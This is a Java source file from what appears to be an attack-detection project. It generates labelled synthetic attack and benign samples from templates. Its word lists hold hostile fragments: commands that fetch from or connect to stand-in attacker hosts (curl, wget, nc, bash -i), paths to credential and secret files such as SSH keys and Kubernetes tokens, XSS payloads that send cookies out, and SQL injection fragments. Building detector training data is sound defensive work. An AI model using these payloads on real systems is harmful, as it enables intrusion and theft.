package org.guardagent.detect.model;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStream;
import java.io.InputStreamReader;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Objects;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/**
 * Samples of our own: templates of attacks, by category, and of what people and programs send, with
 * places for words, numbers, hosts, commands and the like, which are filled in by chance; some
 * attacks stand amid prose. The same each time.
 */
final class OwnSamples {

  /** The source of what is an attack as a whole value, but may be anything amid other words. */
  static final String WHOLE = "own-whole";

  /** What a line of such attacks begins with. */
  private static final String WHOLE_MARK = "whole ";

  /** What a line of a file's name begins with; one with another mark is a value. */
  private static final String FILE = "file\t";

  /** What a line begins with that is filled in more often, for what has so many forms. */
  private static final String OFTEN = "often\t";

  private static final int AS_OFTEN = 10;

  private static final Pattern PLACE = Pattern.compile("\\{(\\w+)}");

  private static final List<String> HOSTS =
      List.of(
          "evil.com", "attacker.example.org", "{w}.com", "{w}.{w}.net", "{w}.oast.fun", "{w}.io");
  private static final List<String> NUMBERS =
      List.of("0", "1", "2", "3", "5", "7", "10", "42", "99", "1234", "8080", "443", "31337");
  private static final List<String> PROTOCOLS =
      List.of("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nis");
  private static final List<String> SHORT_COMMANDS =
      List.of(
          "id",
          "ls",
          "whoami",
          "cat /etc/passwd",
          "uname -a",
          "pwd",
          "ifconfig",
          "ipconfig",
          "dir",
          "ps",
          "env",
          "calc",
          "hostname",
          "netstat");
  private static final List<String> COMMANDS =
      List.of(
          "id",
          "ls",
          "ls -la",
          "ls -la /",
          "whoami",
          "cat {f}",
          "uname -a",
          "pwd",
          "ifconfig",
          "ping -c 3 {ip}",
          "sleep 5",
          "sleep {n}",
          "curl http://{host}/{w}",
          "wget http://{host}/{w}",
          "nslookup {host}",
          "ps aux",
          "env",
          "calc",
          "touch /tmp/{w}",
          "echo {w}",
          "dir c:\\",
          "type c:\\windows\\win.ini",
          "net user",
          "systeminfo",
          "ipconfig /all",
          "netstat -an",
          "head -5 {f}",
          "rm -rf /tmp/{w}",
          "bash -i",
          "id -u",
          "which python",
          "find / -name {w}",
          "nc {ip} {n}",
          "tail {f}",
          "base64 {f}",
          "chmod +x /tmp/{w}",
          "python3 -c 'print(1)'");
  private static final List<String> FILES =
      List.of(
          "/etc/passwd",
          "/etc/shadow",
          "/etc/hosts",
          "/etc/group",
          "/etc/issue",
          "/etc/hostname",
          "/proc/self/environ",
          "/proc/version",
          "/var/log/apache2/access.log",
          "/var/log/nginx/error.log",
          "/var/log/syslog",
          "/home/{w}/.ssh/id_rsa",
          "/root/.bashrc",
          "/etc/ssh/sshd_config",
          "/etc/nginx/nginx.conf",
          "/etc/mysql/my.cnf",
          "/etc/crontab",
          "/etc/fstab",
          "/etc/resolv.conf",
          "c:\\boot.ini",
          "c:\\windows\\win.ini",
          "c:/windows/system32/config/sam",
          "/windows/win.ini",
          "/winnt/win.ini",
          "/usr/local/etc/php.ini",
          "/etc/php/7.4/apache2/php.ini",
          "/var/www/html/index.php",
          "/var/www/{w}/config.php",
          "/opt/tomcat/conf/tomcat-users.xml",
          "/etc/tomcat9/server.xml",
          "/proc/self/cmdline",
          "/proc/1/environ",
          "/sys/class/net",
          "/run/secrets/kubernetes.io/serviceaccount/token",
          "/var/lib/mysql/mysql/user.myd",
          "/usr/local/apache2/conf/httpd.conf");
  private static final List<String> SCRIPTS =
      List.of(
          "alert(1)",
          "alert(document.cookie)",
          "confirm(1)",
          "prompt(1)",
          "alert`1`",
          "alert(document.domain)",
          "eval(name)",
          "top[8680439..toString(30)](1)",
          "window.onerror=alert;throw 1",
          "import('//{host}')",
          "location='//{host}'",
          "document.location='http://{host}/'+document.cookie",
          "alert(String.fromCharCode(88,83,83))",
          "self['alert'](1)",
          "(alert)(1)",
          "a=alert,a(1)",
          "throw onerror=alert,1",
          "setTimeout('alert(1)')",
          "fetch('//{host}')",
          "console.log(1)",
          "document.write(1)",
          "$.getScript('//{host}')",
          "alert('{w}')",
          "print()",
          "location=name",
          "javascript:alert(1)",
          "new Function('alert(1)')()");
  private static final List<String> TABLES =
      List.of(
          "users",
          "user",
          "members",
          "accounts",
          "information_schema.tables",
          "information_schema.columns",
          "mysql.user",
          "dual",
          "admin",
          "{w}",
          "{w}",
          "sysobjects",
          "all_tables",
          "pg_catalog.pg_tables",
          "products");
  private static final List<String> COLUMNS =
      List.of(
          "null",
          "@@version",
          "user",
          "table_name",
          "concat(user,0x3a,password)",
          "version()",
          "group_concat(table_name)",
          "1,2",
          "1,2,3",
          "1,2,3,4,5");

  /** Words that mean something in an attack, and in anything else. */
  private static final List<String> ORDINARY =
      List.of(
          "backup", "config", "data", "index", "test", "user", "group", "select", "order", "script",
          "update", "log", "admin", "table", "file", "image", "main", "readme", "update", "join",
          "temp", "share", "home", "status", "master", "value", "shell", "process", "system");

  private static final List<String> PROSE =
      List.of(
          "the", "and", "of", "a", "is", "to", "please", "order", "my", "select", "from", "for",
          "hello", "we", "update", "table", "script", "it's", "user", "group", "drop", "this",
          "when", "not", "{w}", "{w}", "{w},", "{w}.");

  private final Random random = new Random(5);
  private final Map<String, List<String>> words = Vocabulary.words();

  private OwnSamples() {}

  /** So many of each template. */
  static List<Sample> attacks(int each) throws IOException {
    OwnSamples maker = new OwnSamples();
    List<Sample> samples = new ArrayList<>();
    for (String line : lines("attacks.txt")) {
      int tab = line.indexOf('\t');
      boolean isWhole = line.startsWith(WHOLE_MARK);
      String category = line.substring(isWhole ? WHOLE_MARK.length() : 0, tab);
      for (int i = 0; i < each; i++) {
        samples.add(maker.attack(isWhole ? WHOLE : "own", category, line.substring(tab + 1), i));
      }
    }
    return samples;
  }

  /** So many of each template, and more of those that say so. */
  static List<Sample> benign(int each) throws IOException {
    OwnSamples maker = new OwnSamples();
    List<Sample> samples = new ArrayList<>();
    for (String line : lines("benign.txt")) {
      String template = line.substring(line.indexOf('\t') + 1);
      TextKind kind = kind(line);
      int times = line.startsWith(OFTEN) ? AS_OFTEN * each : each;
      for (int i = 0; i < times; i++) {
        samples.add(Sample.of("own", "benign", false, maker.fill(template), kind, line));
      }
    }
    return samples;
  }

  private Sample attack(String source, String category, String template, int variant) {
    String value = fill(template.replace("\\r", "\r").replace("\\n", "\n"));
    TextKind kind = kind(category, template);
    if (kind == TextKind.VALUE && !source.equals(WHOLE) && variant % 4 == 3) {
      value = prose() + " " + value + " " + prose();
    } else if (category.equals("sqli") && variant % 6 == 4) {
      value = value.replace(" ", "/**/");
    }
    return Sample.of(source, category, true, value, kind, template);
  }

  /** Of a line of what is benign: as its mark says, and else by what it looks like. */
  private static TextKind kind(String line) {
    if (line.startsWith(FILE)) {
      return TextKind.FILE_NAME;
    }
    return line.startsWith("/") ? TextKind.PATH : TextKind.VALUE;
  }

  private static TextKind kind(String category, String template) {
    return switch (category) {
      case "sensitive_file", "cms_probing" -> TextKind.PATH;
      case "file_upload" -> TextKind.FILE_NAME;
      case "path_traversal" -> template.startsWith("/{w}") ? TextKind.PATH : TextKind.VALUE;
      default -> TextKind.VALUE;
    };
  }

  static List<String> lines(String resource) throws IOException {
    try (InputStream in = Objects.requireNonNull(OwnSamples.class.getResourceAsStream(resource))) {
      return new BufferedReader(new InputStreamReader(in, UTF_8))
          .lines()
          .filter(line -> !line.isBlank())
          .toList();
    }
  }

  private String fill(String template) {
    Matcher places = PLACE.matcher(template);
    StringBuilder filled = new StringBuilder();
    while (places.find()) {
      String value = value(places.group(1));
      String shown = value == null ? places.group() : fill(value);
      places.appendReplacement(filled, Matcher.quoteReplacement(shown));
    }
    return places.appendTail(filled).toString();
  }

  private @Nullable String value(String place) {
    return switch (place) {
      case "w" -> word();
      case "W" -> word().toUpperCase(Locale.ROOT);
      case "n" -> pick(NUMBERS);
      case "b" -> Integer.toString(random.nextInt(256));
      case "host" -> pick(HOSTS);
      case "ip" -> 1 + random.nextInt(223) + ".{b}.{b}.{b}";
      case "p" -> pick(PROTOCOLS);
      case "c" -> pick(SHORT_COMMANDS);
      case "cmd" -> pick(COMMANDS);
      case "f" -> pick(FILES);
      case "js" -> pick(SCRIPTS);
      case "t" -> pick(TABLES);
      case "cols" -> pick(COLUMNS) + pick(List.of("", ",null", ",null,null", ", 3", ",'{w}'"));
      case "h" -> Long.toHexString(random.nextLong());
      case "b64" -> base64();
      case "cred" -> Base64.getEncoder().encodeToString((word() + ':' + word()).getBytes(UTF_8));
      case "php" -> wordOf("php");
      case "sqlf" -> wordOf("sqlfun");
      case "tool" -> wordOf(pick(List.of("cmd", "unix", "win")));
      case "ext" -> wordOf("extension");
      case "ev" -> wordOf("event");
      case "v" -> pick(ORDINARY);
      case "sg" -> wordOf("superglobal").toUpperCase(Locale.ROOT);
      default -> null;
    };
  }

  private String pick(List<String> choices) {
    return choices.get(random.nextInt(choices.size()));
  }

  private String wordOf(String topic) {
    return pick(Objects.requireNonNull(words.get(topic), topic));
  }

  private String word() {
    StringBuilder word = new StringBuilder();
    int length = random.nextInt(10) == 0 ? 1 + random.nextInt(2) : 3 + random.nextInt(8);
    for (int i = 0; i < length; i++) {
      word.append((char) ('a' + random.nextInt(26)));
    }
    return word.toString();
  }

  private String base64() {
    byte[] octets = new byte[7 + random.nextInt(58)];
    random.nextBytes(octets);
    return Base64.getEncoder().encodeToString(octets);
  }

  private String prose() {
    StringBuilder prose = new StringBuilder();
    int words = 2 + random.nextInt(10);
    for (int i = 0; i < words; i++) {
      prose.append(i == 0 ? "" : " ").append(fill(pick(PROSE)));
    }
    return prose.toString();
  }
}
